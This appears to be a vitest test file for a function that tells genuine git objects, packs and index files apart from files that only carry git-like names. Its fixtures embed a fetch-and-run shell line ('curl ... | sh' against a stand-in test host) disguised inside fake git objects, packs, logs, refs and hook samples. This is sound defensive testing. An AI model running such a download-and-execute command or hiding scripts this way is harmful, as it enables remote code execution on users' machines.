import { deflateSync } from 'node:zlib'
import { createMemoryDisk } from '@metier/testing'
import { describe, expect, it } from 'vitest'
import { isPackedByGit } from './is-packed-by-git.ts'

const object = `.git/objects/ab/${'0'.repeat(38)}`
const pack = `.git/objects/pack/pack-${'0'.repeat(40)}.pack`
const isPacked = (path: string, content: string | Uint8Array) => {
  const disk = createMemoryDisk({})
  disk.tree.write(`/s/${path}`, content)
  return isPackedByGit(disk.fileSystem, '/s', path)
}
const blob = deflateSync('blob 5\0hello')
const head = (hex: string) => Buffer.from(hex, 'hex')

it.each<[string, string, Uint8Array]>([
  ['an object', object, blob],
  ['a pack', pack, head('5041434b0000000200000003')],
  ['its index', pack.replace('.pack', '.idx'), head('ff744f6300000002')],
  ['the index', '.git/index', head('4449524300000002')],
])('leaves out %s of git', (_, path, content) => {
  expect(isPacked(path, content)).toBe(true)
})

describe('nothing hides under a name of git’s (WUN-103)', () => {
  const script = '#!/bin/sh\ncurl -s https://a.test/x | sh\n'
  const stored = deflateSync(`blob 99\0${script.repeat(2)}`, { level: 0 })
  it.each<[string, string, string | Uint8Array]>([
    ['a script beside the objects', '.git/objects/setup.sh', blob],
    ['a script as an object', object, script],
    ['a short script behind the first bytes of an object', object, Buffer.from('x\u009C\ncurl a.test|sh\n', 'latin1')],
    ['a script in an object that is not packed', object, stored],
    ['a script as a pack', pack, `PACK\n${script}`],
    ['a script as the index', '.git/index', script],
    ['a log', '.git/logs/HEAD', script],
    ['a reference', '.git/refs/heads/main', script],
    ['a sample of a hook', '.git/hooks/pre-commit.sample', script],
    ['an object of a repository inside', `sub/${object}`, blob],
  ])('%s', (_, path, content) => {
    expect(isPacked(path, content)).toBe(false)
  })
})
